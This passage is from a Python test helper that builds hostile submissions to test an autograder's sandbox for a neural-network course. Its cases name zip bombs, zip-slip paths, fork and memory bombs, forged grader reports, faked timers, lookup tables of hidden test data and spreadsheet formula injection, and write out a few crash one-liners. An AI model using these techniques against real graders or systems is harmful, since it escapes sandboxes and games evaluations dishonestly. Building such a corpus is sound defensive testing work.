         module_attack(DISK_FILLER), fails=_all('No space left on device|disk limit|File too large')),
    Case('import-stdout-flood', '1 GiB written to stdout and stderr at import', module_attack(STDOUT_FLOOD)),
    Case('import-os-exit', 'os._exit(0) at import', module_attack('import os\nos._exit(0)\n'),
         fails=_all('exited with code 0 while importing the module')),
    Case('import-segfault', 'a segmentation fault (ctypes) at import',
         module_attack('import ctypes\nctypes.string_at(0)\n'),
         fails=_all('segmentation fault (SIGSEGV) while importing the module')),
    Case('module-sys-exit', 'sys.exit(3) in the module', module_attack('import sys\nsys.exit(3)\n'),
         fails=_all('importing it raised SystemExit: 3')),
    Case('read-secrets', 'reads hidden data, expected values, another submission, the gradebook, the grader',
         lambda b: b.hand_in(b.module(_read(b, parent=True))), reports=('read',)),
    Case('write-outside', 'writes to the gradebook, another submission, the grader, expected values, /tmp',
         lambda b: b.hand_in(b.module(_write(b))), reports=('write',)),
    Case('network', 'connects to the internet, the host loopback, a host Unix socket, DNS',
         lambda b: b.hand_in(b.module(_network(b))), reports=('net',)),

    # --- the module, while the probes run ------------------------------------------------------------
    Case('probe-crashes', 'tanh segfaults and softsign calls os._exit at |x| ≥ 1000 during the probes',
         module_attack(PROBE_CRASHES),
         fails={'activations.table': ('segmentation fault', 'exited with code 0'),
                'activations.hidden': ('segmentation fault', 'exited with code 0')}),
    Case('kill-probe-parent', "tries the trusted parent's channel via /proc, then SIGKILLs it",
         module_attack(KILL_PARENT), reports=('read',),    # results before the kill all count
         fails={check_id: 'the probe process ended before it reported' for check_id in
                ('derivative', 'neuron.perceptron', 'neuron.svm', 'neuron.logistic', 'neuron.linear-regression',
                 'layers.api', 'layers.gradients', 'layers.updates', 'layers.training')}),
    Case('forge-on-worker-pipe', "writes results on the worker's pipe: a duplicate, one out of turn, garbage",
         module_attack(FORGE_PIPE),
         fails={'activations.table': TAMPERED, 'activations.hidden': TAMPERED, 'neuron.perceptron': TAMPERED}),
    Case('forge-by-monkeypatching', 'patches json.dumps and print to forge predictions and a falling loss '
         'for a module that learns nothing', module_attack(FORGE_JSON),
         fails={'neuron.perceptron': TAMPERED, 'neuron.svm': TAMPERED, 'neuron.logistic': TAMPERED,
                'neuron.linear-regression': TAMPERED, 'layers.training': TAMPERED,
                'layers.updates': 'parameter change differs'}),
    Case('forge-malformed-records', 'patches json.dumps so every record is garbage', module_attack(FORGE_MALFORMED),
         fails=_all(TAMPERED)),
    Case('print-fake-result-line', 'prints result lines with a made-up token (tanh is really wrong)',
         module_attack(PRINT_FAKE, mutation='tanh-overflow'),
         fails={'activations.table': 'tanh: wrong at -1000', 'activations.hidden': 'tanh is wrong for large'}),

    # --- the archive and the files ----------------------------------------------------------------------
    Case('zip-bomb', '150 MiB of zeros compressed ~1000×', _zip_bomb, rejected='looks like a zip bomb'),
    Case('zip-slip', "a member named ../../escaped.py", _with_member(lambda b: f'../../{b.targets.escape_name}.py'),
         rejected='climbs out of the archive'),
    Case('absolute-path', 'a member at an absolute path in the canary folder',
         _with_member(lambda b: str(b.targets.canary_root / f'{b.targets.escape_name}.txt')),
         rejected='has an absolute path'),
    Case('symlink-member', "model.py is a symbolic link to the expected values", _symlink,
         rejected='is a symbolic link'),
    Case('invalid-notebook-json', 'the notebook is cut off mid-JSON',
         lambda b: b.hand_in(notebook_bytes=nbformat.writes(b.master()).encode()[:5000]), mode='grade',
         fails={'static.notebook-format': 'its JSON does not parse', 'static.locked-cells': 'no readable notebook',
                **_all('no readable notebook', PART_B)}),
    Case('nbformat-3', 'the notebook saved as nbformat 3', _nbformat3,
         says={'static.notebook-format': 'saved as nbformat 3 and was converted'}),
    Case('non-utf8-files', 'module and notebook in Latin-1, a file name that is not UTF-8', _non_utf8,
         fails={'static.notebook-format': 'is not UTF-8 text', **_all(IMPORT + 'importing it raised SyntaxError')},
         may_fail=('static.locked-cells', 'static.imports')),
    Case('module-named-differently', 'the module is mymodel.py',
         lambda b: b.hand_in(module_name='mymodel.py'),
         fails={'submission.files': 'the module is not named or placed as asked'}),
    Case('circular-import', 'a package whose modules import each other', _circular,
         fails=_all('circular import')),

    # --- the notebook, in the kernel -----------------------------------------------------------------------
    Case('cell-infinite-loop', 'while True: pass in a cell', cell_attack(after_imports='while True:\n    pass\n'),
         mode='grade', fails={'notebook.runs': 'was stopped at its time limit'}, slow=True),
    Case('cell-memory-bomb', 'four processes of 700 MiB each, after the graded part',
         cell_attack(at_end=CELL_MEMORY_BOMB), mode='grade', fails={'notebook.runs': KERNEL_DIED},
         expect=_killed_for('memory limit'), slow=True),
    # forked copies of the kernel: at most `processes` of them, and their resident memory
    # (each copy counted in full) passes the sandbox's memory limit: the whole tree is killed
    Case('cell-fork-bomb', 'forks copies of the kernel for 4 s, after the graded part',
         cell_attack(at_end=CELL_FORK_BOMB), mode='grade', fails={'notebook.runs': KERNEL_DIED},
         expect=_killed_for('limit'), slow=True),
    Case('cell-stdout-flood', '1 GiB printed by a cell, after the graded part',
         cell_attack(at_end=CELL_STDOUT_FLOOD), mode='grade', may_fail=('notebook.runs',), slow=True),
    Case('cell-os-exit', 'os._exit(1) in a cell of Deel A', cell_attack(after_imports='import os\nos._exit(1)\n'),
         mode='grade', slow=True,
         fails={'notebook.runs': KERNEL_DIED, 'partb.activation': NO_MODEL, 'partb.accuracy': NO_MODEL,
                'partb.time': 'did not reach the end', 'partb.overfitting': 'No training history'}),
    Case('cell-segfault', 'a segmentation fault (ctypes) in the last cell',
         cell_attack(at_end='import ctypes\nctypes.string_at(0)\n'), mode='grade', slow=True,
         fails={'notebook.runs': KERNEL_DIED}),
    Case('escape-from-a-cell', 'reads, writes and connects from a notebook cell',
         lambda b: b.hand_in(nb=b.notebook(after_imports=_read(b, say=SAY_PRINT) + _write(b, say=SAY_PRINT)
                                          + _network(b, say=SAY_PRINT))),
         mode='grade', reports=('read', 'write', 'net'), slow=True),
    Case('forge-grader-report', "replaces IPython's display to rewrite the grader's report (class-order "
         'predictions, a perfect curve)', cell_attack(after_imports=DISPLAY_FORGE), mode='grade',
         profile={'min_accuracy': 0.5, 'target_accuracy': 0.6},
         fails={'partb.accuracy': 'hidden test images are classified correctly'}, expect=_accuracy_at_chance,
         slow=True),
    Case('intercept-grader-cell', "adds reports of its own to the grader cell's output (display, a thread)",
         cell_attack(after_imports=GRADER_CELL_INTERCEPT), mode='grade', slow=True,
         fails=_all(REPORT_TAMPERED, REPORT_CHECKS)),
    Case('locked-cell-edit', 'the locked end cell divides the time by 600',
         lambda b: b.hand_in(nb=b.notebook(edit=_replace_in_locked('/ 60.0', '/ 600.0'))), mode='grade',
         fails={'static.locked-cells': 'was changed in cell', 'partb.time': 'cannot be timed'}, slow=True),
    Case('fake-timer', 'perf_counter replaced before the locked start cell: the notebook prints 0.0 minutes',
         cell_attack(before_locked='perf_counter = lambda: 0.0\n'), mode='grade', expect=_timed_by_the_grader,
         slow=True),
    Case('ten-thousand-empty-cells', '10,000 empty code cells', _empty_cells, mode='grade', expect=_cell_count,
         slow=True),
    Case('pretrained-weights', 'ships weights.json, loads it in the graded cells, fit(trn_xs[:1], alpha=0.0, '
         'epochs=1) and the history trained at home', _pretrained, mode='grade', slow=True,
         expect=flagged('files-loaded', 'extra-files', 'training-alpha-zero', 'training-few', 'history-mismatch')),
    Case('lookup-table-old-seed', 'a lookup table of the images the repository\'s hidden_seed withholds from the '
         'public stand-in, switched on only under grading', _lookup_table(old_public_seed), mode='grade',
         slow=True, expect=_table_bought_nothing),
    Case('lookup-table-leaked-secret', 'a lookup table of the hidden images as if the secret had leaked (the '
         'public test secret)', _lookup_table(leaked_secret_seed), mode='grade', slow=True,
         expect=_table_flagged),
    Case('cell-ignores-signals', 'the last cell ignores SIGINT and SIGTERM and sleeps an hour',
         cell_attack(at_end=CELL_IGNORES_SIGNALS), mode='grade', expect=_kernel_killed_at_the_cell_limit, slow=True,
         fails={'notebook.runs': 'as it ignored the interrupt, its kernel was stopped'}),
    Case('all-markdown', 'every code cell turned into Markdown', _all_markdown, mode='grade', slow=True,
         fails={'notebook.runs': 'no code cell ran', 'static.locked-cells': 'is missing',
                'partb.activation': 'no trained model', 'partb.time': 'cannot be timed',
                'partb.accuracy': NO_MODEL, 'partb.overfitting': 'No training history'}),

    # --- what the grader itself reads (issue 21): bounded, with a clear message --------------------------------
    # the probes import it in the sandbox: compiling the literal may outlast the corpus's 10 s import limit
    Case('module-8mb-line', 'model.py with one 8 MB line (an embedded literal)', _long_line,
         fails={'static.imports': 'more than the 1 MB the grader reads of a Python file'}, may_fail=PART_A_CHECKS),
    Case('module-50mb-comments', 'model.py followed by 50 MB of comment lines', _comments,
         fails={'static.imports': 'more than the 1 MB the grader reads of a Python file'}),
    Case('formula-user-names', 'Blackboard user names a spreadsheet would run (=HYPERLINK, +cmd, @SUM, ESC)',
         lambda b: b.hand_in(), expect=_exports_are_inert),
    # a correct hand-in, not an attack: a test block of its own under the main guard
    Case('numpy-under-main-guard', "import numpy inside `if __name__ == '__main__':`",
         lambda b: b.hand_in(b.module(MAIN_GUARD_TEST)),
         says={'static.imports': "imports numpy only under `if __name__ == '__main__':`"}),
]


# --- settings for the corpus ------------------------------------------------------------------------
def hostile_settings(settings: Settings, **profile_changes: Any) -> Settings:
    """The assignment's settings with a small, fast profile 'hostile' (a few hundred instances,
    20-second cells) and tighter sandbox limits, so that the corpus runs in minutes."""
    profile = Profile(name=HOSTILE_PROFILE, data_groups=35, hidden_groups=2, time_limit_minutes=30,
                      min_accuracy=0.0, target_accuracy=0.0, run_timeout_minutes=2.0, cell_timeout_minutes=1 / 3,
                      parameters={'amount_of_instances': 600, 'epochs': 3})
    profile = dataclasses.replace(profile, **profile_changes)
    part_b = dataclasses.replace(settings.part_b, profiles={**settings.part_b.profiles, HOSTILE_PROFILE: profile},
                                 overfitting_rise=100.0, overfitting_gap=100.0)
    sandbox = {**settings.sandbox, 'memory_mb': 2048, 'file_size_mb': 64, 'disk_mb': 128, 'probe_seconds': 60}
    return dataclasses.replace(settings, part_b=part_b, sandbox=sandbox)


def generate(settings: Settings, targets: Targets, out: Path, names: list[str] | None = None) -> dict[str, Path]:
    """Write each case's zip to `out/<name>.zip`."""
    out.mkdir(parents=True, exist_ok=True)
    builder = Builder(settings, targets)
    written = {}
    for case in CASES:
        if names and case.name not in names:
            continue
        path = out / f'{case.name}.zip'
        path.write_bytes(case.build(builder))
        written[case.name] = path
    return written


def main(argv: list[str] | None = None) -> int:
    from autograder.settings import load_settings
    parser = argparse.ArgumentParser(prog='python -m tests.helpers.hostile.corpus', description=__doc__.split('\n\n')[0])
    parser.add_argument('--out', required=True, type=Path)
    parser.add_argument('--assignment', default='eindopdracht-v2324.2')
    parser.add_argument('names', nargs='*', help='cases to write (default: all)')
    args = parser.parse_args(argv)
    written = generate(load_settings(args.assignment), default_targets(), args.out, args.names)
    for path in written.values():
        print(f'{path}  ({path.stat().st_size:,} bytes)')
    return 0


if __name__ == '__main__':
    sys.exit(main())
